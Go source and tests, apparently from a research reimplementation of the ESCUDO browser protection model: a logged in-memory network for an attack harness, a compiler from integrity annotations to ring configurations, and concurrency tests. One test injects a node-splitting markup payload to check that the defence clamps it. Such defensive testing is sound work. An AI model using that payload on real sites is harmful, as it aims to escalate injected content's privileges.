// Cookie returns the named cookie value and whether it is present.
func (r *Request) Cookie(name string) (string, bool) {
	v, ok := r.Cookies()[name]
	return v, ok
}

// Response is one HTTP-shaped response.
type Response struct {
	// Status is the HTTP status code.
	Status int
	// Header carries response headers, including Set-Cookie and the
	// X-Escudo-* configuration.
	Header Header
	// Body is the response entity, typically HTML.
	Body string
}

// NewResponse builds an empty 200 response.
func NewResponse() *Response {
	return &Response{Status: 200, Header: Header{}}
}

// HTML builds a 200 text/html response with the given body.
func HTML(body string) *Response {
	resp := NewResponse()
	resp.Header.Set("Content-Type", "text/html")
	resp.Body = body
	return resp
}

// Redirect builds a 303 response to the given location.
func Redirect(location string) *Response {
	resp := NewResponse()
	resp.Status = 303
	resp.Header.Set("Location", location)
	return resp
}

// NotFound builds a 404 response.
func NotFound() *Response {
	resp := NewResponse()
	resp.Status = 404
	resp.Body = "not found"
	return resp
}

// Forbidden builds a 403 response.
func Forbidden(msg string) *Response {
	resp := NewResponse()
	resp.Status = 403
	resp.Body = msg
	return resp
}

// Handler serves requests for one origin.
type Handler interface {
	Serve(req *Request) *Response
}

// HandlerFunc adapts a function to Handler.
type HandlerFunc func(req *Request) *Response

// Serve implements Handler.
func (f HandlerFunc) Serve(req *Request) *Response { return f(req) }

// ErrNoServer reports a request for an unregistered origin.
var ErrNoServer = errors.New("web: no server for origin")

// LogEntry records one routed request for post-hoc analysis.
type LogEntry struct {
	Method          string
	URL             string
	Path            string
	Target          origin.Origin
	InitiatorOrigin origin.Origin
	InitiatorLabel  string
	// TraceID links the request to the decision trace of the task that
	// issued it; empty for untraced tasks.
	TraceID string
	// CookieNames are the cookies that arrived with the request —
	// the CSRF success signal.
	CookieNames []string
	// SetCookieNames are the cookies the response tried to set, so the
	// attack harness can see session establishment (e.g. a login fixation
	// attempt) and not just request-side cookie travel.
	SetCookieNames []string
	Form           url.Values
	Status         int
}

// logShardCount must be a power of two (records shard by ticket).
// Mirrors core.AuditLog: enough shards that concurrent sessions'
// request logging doesn't serialize, few enough that merges stay
// cheap.
const logShardCount = 16

// logRecord is one entry stamped with its global ticket, so per-shard
// streams merge back into issue order.
type logRecord struct {
	seq uint64
	e   LogEntry
}

// logShard is one independently locked slice of the request log.
type logShard struct {
	mu   sync.RWMutex
	recs []logRecord
}

// serverTable is the immutable origin→handler map the hot path reads.
type serverTable map[origin.Origin]Handler

// Network routes requests to servers by origin and records a log. It
// is safe for concurrent use and concurrent-first: the server table is
// an immutable copy-on-write map behind an atomic pointer
// (registrations happen at setup, lookups on every request, so reads
// take no lock at all), and the request log is sharded with a global
// atomic ticket so writers from many sessions don't serialize on one
// mutex — readers merge the shards back into ticket order.
type Network struct {
	servers atomic.Pointer[serverTable]
	// regMu serializes Register's copy-on-write swaps; lookups never
	// take it.
	regMu  sync.Mutex
	seq    atomic.Uint64
	shards [logShardCount]logShard
}

// NewNetwork returns an empty network.
func NewNetwork() *Network {
	n := &Network{}
	empty := serverTable{}
	n.servers.Store(&empty)
	return n
}

// Register installs a handler for an origin, replacing any previous
// one. Registration copies the server table (it is setup-time work);
// in-flight lookups keep reading the previous immutable table.
func (n *Network) Register(o origin.Origin, h Handler) {
	n.regMu.Lock()
	defer n.regMu.Unlock()
	old := *n.servers.Load()
	next := make(serverTable, len(old)+1)
	for k, v := range old {
		next[k] = v
	}
	next[o] = h
	n.servers.Store(&next)
}

// lookup resolves the handler for an origin with a lock-free read of
// the current server table.
func (n *Network) lookup(o origin.Origin) (Handler, bool) {
	h, ok := (*n.servers.Load())[o]
	return h, ok
}

// RoundTrip routes the request to its target origin's server and
// returns the response. Every routed request is logged, whether or
// not a server exists; unrouted origins log Status 502.
func (n *Network) RoundTrip(req *Request) (*Response, error) {
	target, err := req.TargetOrigin()
	if err != nil {
		return nil, fmt.Errorf("web: routing %q: %w", req.URL, err)
	}
	h, ok := n.lookup(target)

	entry := LogEntry{
		Method:          req.Method,
		URL:             req.URL,
		Path:            req.Path(),
		Target:          target,
		InitiatorOrigin: req.InitiatorOrigin,
		InitiatorLabel:  req.InitiatorLabel,
		TraceID:         req.TraceID,
		Form:            req.Form,
	}
	for name := range req.Cookies() {
		entry.CookieNames = append(entry.CookieNames, name)
	}

	if !ok {
		entry.Status = 502
		n.appendLog(entry)
		return nil, fmt.Errorf("%w: %s", ErrNoServer, target)
	}
	resp := h.Serve(req)
	if resp == nil {
		resp = NotFound()
	}
	entry.Status = resp.Status
	for _, sc := range resp.Header.Values("Set-Cookie") {
		if name, _, ok := strings.Cut(sc, "="); ok && name != "" {
			entry.SetCookieNames = append(entry.SetCookieNames, strings.TrimSpace(name))
		}
	}
	n.appendLog(entry)
	return resp, nil
}

// appendLog takes a global ticket and appends under one shard lock.
func (n *Network) appendLog(e LogEntry) {
	seq := n.seq.Add(1)
	s := &n.shards[seq&(logShardCount-1)]
	s.mu.Lock()
	s.recs = append(s.recs, logRecord{seq: seq, e: e})
	s.mu.Unlock()
}

// collect snapshots every shard, keeping entries that pass keep, and
// returns them in ticket (issue) order. Filtering happens under the
// shard read locks, so post-hoc queries never copy the whole log.
func (n *Network) collect(keep func(LogEntry) bool) []LogEntry {
	var recs []logRecord
	for i := range n.shards {
		s := &n.shards[i]
		s.mu.RLock()
		for _, r := range s.recs {
			if keep == nil || keep(r.e) {
				recs = append(recs, r)
			}
		}
		s.mu.RUnlock()
	}
	sort.Slice(recs, func(a, b int) bool { return recs[a].seq < recs[b].seq })
	out := make([]LogEntry, len(recs))
	for i, r := range recs {
		out[i] = r.e
	}
	return out
}

// Log returns a copy of the request log in issue order.
func (n *Network) Log() []LogEntry {
	return n.collect(nil)
}

// ResetLog clears the request log (between attack trials). The ticket
// counter keeps running, so entries logged before and after a
// concurrent reset still merge in a consistent order.
func (n *Network) ResetLog() {
	for i := range n.shards {
		s := &n.shards[i]
		s.mu.Lock()
		s.recs = nil
		s.mu.Unlock()
	}
}

// LogLen returns the number of logged requests without copying them.
func (n *Network) LogLen() int {
	total := 0
	for i := range n.shards {
		s := &n.shards[i]
		s.mu.RLock()
		total += len(s.recs)
		s.mu.RUnlock()
	}
	return total
}

// HasCookie reports whether entry carried the named cookie.
func (e LogEntry) HasCookie(name string) bool {
	for _, c := range e.CookieNames {
		if c == name {
			return true
		}
	}
	return false
}

// HasSetCookie reports whether entry's response set the named cookie.
func (e LogEntry) HasSetCookie(name string) bool {
	for _, c := range e.SetCookieNames {
		if c == name {
			return true
		}
	}
	return false
}

// FindRequests returns log entries matching the target origin and path
// predicate, in issue order. The filter runs under the shard locks:
// only matching entries are ever copied.
func (n *Network) FindRequests(target origin.Origin, match func(LogEntry) bool) []LogEntry {
	return n.collect(func(e LogEntry) bool {
		return e.Target == target && (match == nil || match(e))
	})
}
