package web

import "repro/internal/origin"

// Transport carries one HTTP-shaped request to the server side and
// returns its response. It is the seam between the browser and
// whatever network substrate serves the origins: the in-memory
// *Network implements it directly, and httpd.ClientTransport
// implements it over real sockets against an httpd.Gateway.
//
// The protection model is transport-independent (complete mediation
// happens in the browser and per-page reference monitors, not in the
// carrier), so two transports serving the same origins must produce
// identical Escudo verdicts and audit records for the same session —
// the invariant the httpd equivalence tests pin down.
type Transport interface {
	// RoundTrip delivers the request to its target origin's server and
	// returns the response. Implementations must not mutate req after
	// returning and must not require the caller to retry redirects —
	// redirect following is browser policy, not transport policy.
	RoundTrip(req *Request) (*Response, error)
}

var _ Transport = (*Network)(nil)

// Origins returns the origins with registered handlers, in no
// particular order. Gateways use it to mount every origin of a network
// without the caller re-listing them.
func (n *Network) Origins() []origin.Origin {
	table := *n.servers.Load()
	out := make([]origin.Origin, 0, len(table))
	for o := range table {
		out = append(out, o)
	}
	return out
}
