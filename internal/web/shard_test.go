package web

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"testing"

	"repro/internal/origin"
)

// TestLogTicketOrder asserts Log() returns entries in issue order:
// sequential tickets land in different shards, and the merge must
// reassemble the original sequence.
func TestLogTicketOrder(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("ok") }))
	const reqs = 100
	for i := 0; i < reqs; i++ {
		if _, err := n.RoundTrip(NewRequest("GET", fmt.Sprintf("http://forum.example/p%03d", i))); err != nil {
			t.Fatal(err)
		}
	}
	log := n.Log()
	if len(log) != reqs {
		t.Fatalf("log = %d entries, want %d", len(log), reqs)
	}
	for i, e := range log {
		if want := fmt.Sprintf("/p%03d", i); e.Path != want {
			t.Fatalf("log[%d].Path = %q, want %q (merge out of ticket order)", i, e.Path, want)
		}
	}
}

// TestLogTicketOrderConcurrent checks the per-issuer ordering
// guarantee under parallel load: each worker's own requests must
// appear in the merged log in the order that worker issued them.
func TestLogTicketOrderConcurrent(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("ok") }))
	const workers, reqs = 8, 60
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < reqs; i++ {
				req := NewRequest("GET", fmt.Sprintf("http://forum.example/w%d/%d", w, i))
				if _, err := n.RoundTrip(req); err != nil {
					t.Errorf("worker %d: %v", w, err)
					return
				}
			}
		}()
	}
	wg.Wait()
	log := n.Log()
	if len(log) != workers*reqs {
		t.Fatalf("log = %d entries, want %d", len(log), workers*reqs)
	}
	last := make([]int, workers)
	for i := range last {
		last[i] = -1
	}
	for _, e := range log {
		parts := strings.SplitN(strings.TrimPrefix(e.Path, "/w"), "/", 2)
		w, _ := strconv.Atoi(parts[0])
		i, _ := strconv.Atoi(parts[1])
		if i <= last[w] {
			t.Fatalf("worker %d request %d merged after request %d", w, i, last[w])
		}
		last[w] = i
	}
}

// TestRoundTripNoServerLogs502 is the regression test for unrouted
// origins: the request must fail with ErrNoServer AND leave a
// Status-502 log entry, so the attack harness still sees the attempt.
func TestRoundTripNoServerLogs502(t *testing.T) {
	n := NewNetwork()
	_, err := n.RoundTrip(NewRequest("GET", "http://nowhere.example/x"))
	if !errors.Is(err, ErrNoServer) {
		t.Fatalf("err = %v, want ErrNoServer", err)
	}
	log := n.Log()
	if len(log) != 1 {
		t.Fatalf("log = %d entries, want 1", len(log))
	}
	if log[0].Status != 502 {
		t.Errorf("Status = %d, want 502", log[0].Status)
	}
	if log[0].Path != "/x" {
		t.Errorf("Path = %q, want /x", log[0].Path)
	}
}

// TestRoundTripLogsSetCookieNames checks the response side of the log:
// Set-Cookie names must be recorded so the CSRF harness can observe
// session establishment, not just request-side cookie travel.
func TestRoundTripLogsSetCookieNames(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response {
		resp := HTML("ok")
		resp.Header.Add("Set-Cookie", "sid=abc123; Path=/")
		resp.Header.Add("Set-Cookie", "theme=dark")
		return resp
	}))
	if _, err := n.RoundTrip(NewRequest("GET", "http://forum.example/login")); err != nil {
		t.Fatal(err)
	}
	log := n.Log()
	if len(log) != 1 {
		t.Fatalf("log = %d entries, want 1", len(log))
	}
	e := log[0]
	if !e.HasSetCookie("sid") || !e.HasSetCookie("theme") {
		t.Errorf("SetCookieNames = %v, want sid and theme", e.SetCookieNames)
	}
	if e.HasSetCookie("absent") {
		t.Error("HasSetCookie reports a cookie that was never set")
	}
}

// TestNetworkRaceHammer drives every Network operation from parallel
// goroutines — RoundTrip, Register, Log, FindRequests, ResetLog,
// LogLen — to verify the sharded log and copy-on-write server table
// under the race detector (make race).
func TestNetworkRaceHammer(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("a") }))
	other := origin.MustParse("http://other.example")
	const loops = 200
	var wg sync.WaitGroup
	// Round-trippers.
	for w := 0; w < 4; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < loops; i++ {
				req := NewRequest("GET", fmt.Sprintf("http://forum.example/h%d-%d", w, i))
				req.Header.Set("Cookie", "sid=tok")
				if _, err := n.RoundTrip(req); err != nil {
					t.Errorf("worker %d: %v", w, err)
					return
				}
			}
		}()
	}
	// A registrar re-registering both origins.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < loops; i++ {
			n.Register(other, HandlerFunc(func(req *Request) *Response { return HTML("b") }))
			n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("a") }))
		}
	}()
	// Readers and a resetter.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < loops; i++ {
			_ = n.Log()
			_ = n.FindRequests(forum, func(e LogEntry) bool { return e.HasCookie("sid") })
			_ = n.LogLen()
			if i%50 == 49 {
				n.ResetLog()
			}
		}
	}()
	wg.Wait()
}
