package web

import (
	"net/textproto"
	"strings"
	"testing"

	"repro/internal/raceflag"
)

// TestCanonicalKeyInterning pins two properties of the hot-key intern
// table: every interned spelling canonicalizes without allocating, and
// the interned value is exactly what the generic rebuild would have
// produced (cross-checked against net/textproto, which implements the
// same dash-segment title-casing) — interning must be a cache, never a
// semantic change.
func TestCanonicalKeyInterning(t *testing.T) {
	for lower, want := range internedKeys {
		if got := CanonicalKey(lower); got != want {
			t.Errorf("CanonicalKey(%q) = %q, want interned %q", lower, got, want)
		}
		if ref := textproto.CanonicalMIMEHeaderKey(lower); want != ref {
			t.Errorf("interned form of %q is %q, diverges from canonical %q", lower, want, ref)
		}
		if lower != strings.ToLower(lower) {
			t.Errorf("intern table key %q is not lower-case", lower)
		}
	}

	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	keys := []string{"content-type", "set-cookie", "cache-control", "etag", "cookie"}
	allocs := testing.AllocsPerRun(1000, func() {
		for _, k := range keys {
			CanonicalKey(k)
		}
	})
	if allocs != 0 {
		t.Fatalf("interned CanonicalKey allocates %.1f times per batch, want 0", allocs)
	}
}
