package web

import (
	"fmt"
	"sync"
	"testing"
)

// TestNetworkConcurrentRoundTrips exercises the network's locking
// under parallel load (run with -race to verify).
func TestNetworkConcurrentRoundTrips(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response {
		return HTML("ok")
	}))
	const workers, reqs = 8, 50
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < reqs; i++ {
				req := NewRequest("GET", fmt.Sprintf("http://forum.example/p%d-%d", w, i))
				if _, err := n.RoundTrip(req); err != nil {
					t.Errorf("worker %d: %v", w, err)
					return
				}
			}
		}()
	}
	wg.Wait()
	if got := len(n.Log()); got != workers*reqs {
		t.Errorf("log = %d entries, want %d", got, workers*reqs)
	}
}

// TestNetworkConcurrentRegister checks registration racing with
// traffic.
func TestNetworkConcurrentRegister(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("a") }))
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < 100; i++ {
			n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("b") }))
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 100; i++ {
			_, _ = n.RoundTrip(NewRequest("GET", "http://forum.example/"))
		}
	}()
	wg.Wait()
}
