package sifgen

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/policy"
)

func compiler() *Compiler { return New(nonce.NewSeqSource(1)) }

// phpbbAnnotations is the phpBB page expressed as SIF-style
// annotations; compiling it must reproduce the Table 3 configuration.
func phpbbAnnotations() []Fragment {
	return []Fragment{
		{Kind: KindMarkup, ID: "head", Level: Trusted, Content: "<script>app()</script>"},
		{Kind: KindMarkup, ID: "appbody", Level: Application, Content: "<h1>Forum</h1>"},
		{Kind: KindMarkup, ID: "post-1", Level: Untrusted, Content: "user text", PeerIsolated: true},
		{Kind: KindMarkup, ID: "post-2", Level: Untrusted, Content: "more user text", PeerIsolated: true},
		{Kind: KindCookie, ID: "phpbb2mysql_sid", Level: Application},
		{Kind: KindCookie, ID: "phpbb2mysql_data", Level: Application},
		{Kind: KindAPI, ID: "XMLHttpRequest", Level: Application},
	}
}

func TestCompileReproducesTable3(t *testing.T) {
	out, err := compiler().Compile(phpbbAnnotations())
	if err != nil {
		t.Fatal(err)
	}
	// Cookies: ring 1, ACL ≤ 1 (Table 3).
	for _, name := range []string{"phpbb2mysql_sid", "phpbb2mysql_data"} {
		cc, ok := out.Config.Cookies[name]
		if !ok || cc.Ring != 1 || cc.ACL != core.UniformACL(1) {
			t.Errorf("cookie %s = %+v", name, cc)
		}
	}
	// XHR: ring 1.
	if ac := out.Config.APIs["xmlhttprequest"]; ac.Ring != 1 {
		t.Errorf("xhr = %+v", ac)
	}
	// Markup: parse and check labels.
	doc := html.Parse(out.Body, html.Options{Escudo: true, MaxRing: 3, BaseRing: 3})
	find := func(id string) *html.Node {
		var n *html.Node
		html.Walk(doc, func(m *html.Node) bool {
			if v, ok := m.Attr("id"); ok && v == id {
				n = m
				return false
			}
			return true
		})
		return n
	}
	if head := find("head"); head == nil || head.Ring != 0 || head.ACL != core.UniformACL(0) {
		t.Errorf("head = %+v", head)
	}
	if body := find("appbody"); body == nil || body.Ring != 1 || body.ACL != core.UniformACL(1) {
		t.Errorf("appbody = %+v", body)
	}
	// Peer-isolated untrusted content: ring 3, ACL ≤ 2 (Table 3's
	// "providing isolation between the messages").
	for _, id := range []string{"post-1", "post-2"} {
		post := find(id)
		if post == nil || post.Ring != 3 || post.ACL != core.UniformACL(2) {
			t.Errorf("%s = %+v, want ring 3 acl ≤2", id, post)
		}
	}
}

func TestCompiledScopesAreNonceSealed(t *testing.T) {
	out, err := compiler().Compile(phpbbAnnotations())
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.Body, "nonce=") {
		t.Error("compiled markup lacks nonces")
	}
	// The generated page must survive an injected node-splitting
	// attempt inside a fragment.
	frags := phpbbAnnotations()
	frags[2].Content = `</div><div ring=0 id=forged>evil</div>`
	out, err = compiler().Compile(frags)
	if err != nil {
		t.Fatal(err)
	}
	doc := html.Parse(out.Body, html.Options{Escudo: true, MaxRing: 3, BaseRing: 3})
	var forged *html.Node
	html.Walk(doc, func(n *html.Node) bool {
		if v, ok := n.Attr("id"); ok && v == "forged" {
			forged = n
			return false
		}
		return true
	})
	if forged == nil || forged.Ring != 3 {
		t.Errorf("forged = %+v, want clamped ring 3", forged)
	}
}

func TestCompileErrors(t *testing.T) {
	cases := []struct {
		name  string
		frags []Fragment
	}{
		{"missing id", []Fragment{{Kind: KindMarkup, Level: Trusted}}},
		{"duplicate", []Fragment{
			{Kind: KindCookie, ID: "sid", Level: Application},
			{Kind: KindCookie, ID: "sid", Level: Application},
		}},
		{"bad level", []Fragment{{Kind: KindMarkup, ID: "x", Level: Level(12)}}},
		{"bad kind", []Fragment{{Kind: FragmentKind(9), ID: "x", Level: Trusted}}},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := compiler().Compile(tt.frags); err == nil {
				t.Error("want error")
			}
		})
	}
	// Same id under different kinds is fine (a cookie and a div may
	// share a name).
	_, err := compiler().Compile([]Fragment{
		{Kind: KindCookie, ID: "x", Level: Application},
		{Kind: KindMarkup, ID: "x", Level: Application},
	})
	if err != nil {
		t.Errorf("cross-kind name reuse: %v", err)
	}
}

func TestACLForDerivation(t *testing.T) {
	c := compiler()
	if got := c.ACLFor(Application, false); got != core.UniformACL(1) {
		t.Errorf("application = %v", got)
	}
	if got := c.ACLFor(Untrusted, true); got != core.UniformACL(2) {
		t.Errorf("untrusted isolated = %v", got)
	}
	if got := c.ACLFor(Trusted, true); got != core.UniformACL(0) {
		t.Errorf("trusted isolated must not underflow: %v", got)
	}
}

func TestLevelString(t *testing.T) {
	want := map[Level]string{Trusted: "trusted", Application: "application", Partner: "partner", Untrusted: "untrusted"}
	for l, s := range want {
		if l.String() != s {
			t.Errorf("%d = %q", l, l.String())
		}
	}
}

func TestSummary(t *testing.T) {
	s := Summary(phpbbAnnotations(), compiler())
	for _, want := range []string{"head", "phpbb2mysql_sid", "ring=3", "untrusted"} {
		if !strings.Contains(s, want) {
			t.Errorf("summary missing %q:\n%s", want, s)
		}
	}
}

// TestCompilePolicyDerivesUnifiedDocument checks the §6.2 derivation
// lands in the unified policy document: same assignments as the
// header config, validated, and JSON round-trippable.
func TestCompilePolicyDerivesUnifiedDocument(t *testing.T) {
	o := origin.MustParse("http://forum.example")
	out, pol, err := compiler().CompilePolicy(o, phpbbAnnotations())
	if err != nil {
		t.Fatal(err)
	}
	if pol.Origin != o.String() || pol.MaxRing != core.DefaultMaxRing {
		t.Fatalf("policy header: %+v", pol)
	}
	if a, ok := pol.Cookies["phpbb2mysql_sid"]; !ok || a.Ring != 1 {
		t.Fatalf("sid assignment: %+v ok=%v", a, ok)
	}
	if r, ok := pol.APIs["xmlhttprequest"]; !ok || r != 1 {
		t.Fatalf("xhr assignment: %d ok=%v", r, ok)
	}
	// The derived document and the derived header config agree.
	if got := pol.PageConfig().Cookies["phpbb2mysql_data"]; got != out.Config.Cookies["phpbb2mysql_data"] {
		t.Fatalf("page-config divergence: %+v vs %+v", got, out.Config.Cookies["phpbb2mysql_data"])
	}
	data, err := pol.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := policy.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !pol.Equal(back) {
		t.Fatal("derived policy does not round-trip")
	}
}
