// Package sifgen derives ESCUDO configurations from language-level
// integrity annotations, the direction the paper sketches in §6.2:
// "The SIF framework is an extension of the Java Servlet framework to
// enforce confidentiality and integrity policies at run-time using
// language-based information flow. ... The confidentiality and
// integrity policies on the data can be used to automatically derive
// the ESCUDO configuration for the web page, when the web page is
// created."
//
// A developer annotates each page fragment, cookie, and native API
// with an integrity level (Trusted, Application, Partner, Untrusted —
// a small lattice). The compiler maps levels to rings, derives the
// isolation ACLs the case studies use (peer-isolated untrusted
// content, self-writable application content), wraps fragments in
// nonce-sealed AC tags, and emits both the page markup and the
// X-Escudo header set.
package sifgen

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/core"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/template"
)

// Level is an integrity level on the annotation lattice. Lower is
// more trusted, mirroring rings.
type Level int

// The lattice the compiler understands. It matches the case studies'
// four-ring layout: Trusted→0, Application→1, Partner→2, Untrusted→3.
const (
	Trusted Level = iota
	Application
	Partner
	Untrusted
)

// String names the level.
func (l Level) String() string {
	switch l {
	case Trusted:
		return "trusted"
	case Application:
		return "application"
	case Partner:
		return "partner"
	case Untrusted:
		return "untrusted"
	default:
		return fmt.Sprintf("level(%d)", int(l))
	}
}

// FragmentKind distinguishes annotated items.
type FragmentKind int

// Annotated item kinds.
const (
	KindMarkup FragmentKind = iota + 1
	KindCookie
	KindAPI
)

// Fragment is one annotated item of a page.
type Fragment struct {
	// Kind says whether this is page markup, a cookie, or a native
	// API.
	Kind FragmentKind
	// ID names the item: an element id for markup, the cookie name,
	// or the API name ("xmlhttprequest").
	ID string
	// Level is the integrity annotation.
	Level Level
	// Content is the markup body (KindMarkup only). It is inserted
	// raw: sanitization is the application's concern, ESCUDO's
	// labeling is the compiler's.
	Content string
	// PeerIsolated marks content whose sibling fragments at the same
	// level must not manipulate each other (user posts, calendar
	// events): the write/use ceiling is tightened one ring inward,
	// exactly the Table 3/Table 5 pattern.
	PeerIsolated bool
}

// Compiled is the compiler's output.
type Compiled struct {
	// Body is the page body markup with every fragment wrapped in a
	// labeled, nonce-sealed AC scope.
	Body string
	// Config is the page's header-carried configuration (ring count,
	// cookies, APIs).
	Config core.PageConfig
}

// Compiler derives configurations. The zero value is not usable; use
// New.
type Compiler struct {
	maxRing core.Ring
	builder *template.ACBuilder
}

// New returns a compiler targeting the default four-ring layout.
// Nonces may be nil (crypto source).
func New(nonces nonce.Source) *Compiler {
	return &Compiler{
		maxRing: core.DefaultMaxRing,
		builder: template.NewACBuilder(nonces),
	}
}

// RingFor maps an integrity level to a ring.
func (c *Compiler) RingFor(l Level) core.Ring {
	return core.Ring(l).Clamp(c.maxRing)
}

// ACLFor derives the item's ACL: readable and usable by its own level,
// and — when peer isolation is requested — writable/usable only one
// ring inward, so same-level peers cannot manipulate each other
// (Table 3: topics at ring 3 with ACL ≤ 2).
func (c *Compiler) ACLFor(l Level, peerIsolated bool) core.ACL {
	ring := c.RingFor(l)
	acl := core.UniformACL(ring)
	if peerIsolated && ring > 0 {
		acl.Write = ring - 1
		acl.Use = ring - 1
		acl.Read = ring - 1
	}
	return acl
}

// ErrBadFragment reports an unusable annotation.
type ErrBadFragment struct {
	ID  string
	Msg string
}

// Error implements error.
func (e *ErrBadFragment) Error() string {
	return fmt.Sprintf("sifgen: fragment %q: %s", e.ID, e.Msg)
}

// Compile derives the full page configuration from annotations.
// Markup fragments are emitted in input order.
func (c *Compiler) Compile(fragments []Fragment) (Compiled, error) {
	out := Compiled{Config: core.NewPageConfig(c.maxRing)}
	var body strings.Builder
	seen := map[string]bool{}
	for _, f := range fragments {
		if f.ID == "" {
			return Compiled{}, &ErrBadFragment{ID: f.ID, Msg: "missing id"}
		}
		key := fmt.Sprintf("%d/%s", f.Kind, f.ID)
		if seen[key] {
			return Compiled{}, &ErrBadFragment{ID: f.ID, Msg: "duplicate annotation"}
		}
		seen[key] = true
		if f.Level < Trusted || core.Ring(f.Level) > c.maxRing {
			return Compiled{}, &ErrBadFragment{ID: f.ID, Msg: "level outside the lattice"}
		}
		switch f.Kind {
		case KindMarkup:
			body.WriteString(c.builder.Wrap(
				c.RingFor(f.Level),
				c.ACLFor(f.Level, f.PeerIsolated),
				fmt.Sprintf("id=%s", f.ID),
				f.Content,
			))
		case KindCookie:
			out.Config.Cookies[f.ID] = core.CookieConfig{
				Name: f.ID,
				Ring: c.RingFor(f.Level),
				ACL:  c.ACLFor(f.Level, f.PeerIsolated),
			}
		case KindAPI:
			out.Config.APIs[strings.ToLower(f.ID)] = core.APIConfig{
				Name: strings.ToLower(f.ID),
				Ring: c.RingFor(f.Level),
			}
		default:
			return Compiled{}, &ErrBadFragment{ID: f.ID, Msg: "unknown kind"}
		}
	}
	out.Body = body.String()
	return out, nil
}

// CompilePolicy compiles fragments and additionally derives the
// unified policy document for the origin the page will be served from
// — the §6.2 derivation path expressed in the repo's one policy shape.
// The returned document validates by construction.
func (c *Compiler) CompilePolicy(o origin.Origin, fragments []Fragment) (Compiled, policy.Policy, error) {
	out, err := c.Compile(fragments)
	if err != nil {
		return Compiled{}, policy.Policy{}, err
	}
	p := policy.FromPageConfig(o, out.Config)
	if err := p.Validate(); err != nil {
		return Compiled{}, policy.Policy{}, fmt.Errorf("sifgen: derived policy invalid: %w", err)
	}
	return out, p, nil
}

// Summary renders a human-readable derivation table (the developer's
// review artifact).
func Summary(fragments []Fragment, c *Compiler) string {
	sorted := append([]Fragment(nil), fragments...)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].Level < sorted[j].Level })
	var b strings.Builder
	for _, f := range sorted {
		kind := map[FragmentKind]string{KindMarkup: "markup", KindCookie: "cookie", KindAPI: "api"}[f.Kind]
		fmt.Fprintf(&b, "%-8s %-24s %-12s ring=%d acl{%s}\n",
			kind, f.ID, f.Level, c.RingFor(f.Level), c.ACLFor(f.Level, f.PeerIsolated))
	}
	return b.String()
}
