package httpd

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"testing"
	"time"

	"repro/internal/apps/phpbb"
	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/ctlplane"
	"repro/internal/mashup"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// buildSubstrate assembles one deterministic test substrate: the
// Figure-4 scenario server plus a phpBB instance with sequenced
// nonces, so two fresh substrates serve byte-identical traffic.
func buildSubstrate() (*web.Network, origin.Origin, origin.Origin, int) {
	n := web.NewNetwork()
	bench := origin.MustParse("http://bench.example")
	n.Register(bench, scenarios.Handler())
	forumO := origin.MustParse("http://forum.example")
	forum := phpbb.New(phpbb.Config{
		Origin: forumO, Hardened: false, Escudo: true, Nonces: nonce.NewSeqSource(1000),
	})
	forum.AddUser("alice", "pw")
	topic := forum.SeedTopic("alice", "Welcome", "first post")
	n.Register(forumO, forum)
	return n, bench, forumO, topic
}

// runFixedSession drives one deterministic session over the given
// transport: every Figure-4 scenario page (twice, so the session
// cookie exercises use mediation), then a phpBB login, browse, and
// reply. It returns the browser for audit/jar inspection.
func runFixedSession(t *testing.T, transport web.Transport, bench, forumO origin.Origin, topic int) *browser.Browser {
	t.Helper()
	b := browser.New(transport, browser.Options{Mode: browser.ModeEscudo})
	driveFixedWorkload(t, b, bench, forumO, topic)
	return b
}

// driveFixedWorkload runs the fixed session script on an existing
// browser, so provenance tests can wire tracing options first.
func driveFixedWorkload(t *testing.T, b *browser.Browser, bench, forumO origin.Origin, topic int) {
	t.Helper()
	for round := 0; round < 2; round++ {
		for _, path := range scenarios.Paths() {
			if _, err := b.Navigate(bench.URL(path)); err != nil {
				t.Fatalf("navigate %s: %v", path, err)
			}
		}
	}
	p, err := b.Navigate(forumO.URL("/"))
	if err != nil {
		t.Fatalf("forum index: %v", err)
	}
	form := p.Doc.ByID("loginform")
	if form == nil {
		t.Fatal("no loginform")
	}
	if _, err := p.SubmitForm(form, url.Values{"username": {"alice"}, "password": {"pw"}}); err != nil {
		t.Fatalf("login: %v", err)
	}
	for i := 0; i < 3; i++ {
		if _, err := b.Navigate(forumO.URL("/")); err != nil {
			t.Fatalf("forum browse: %v", err)
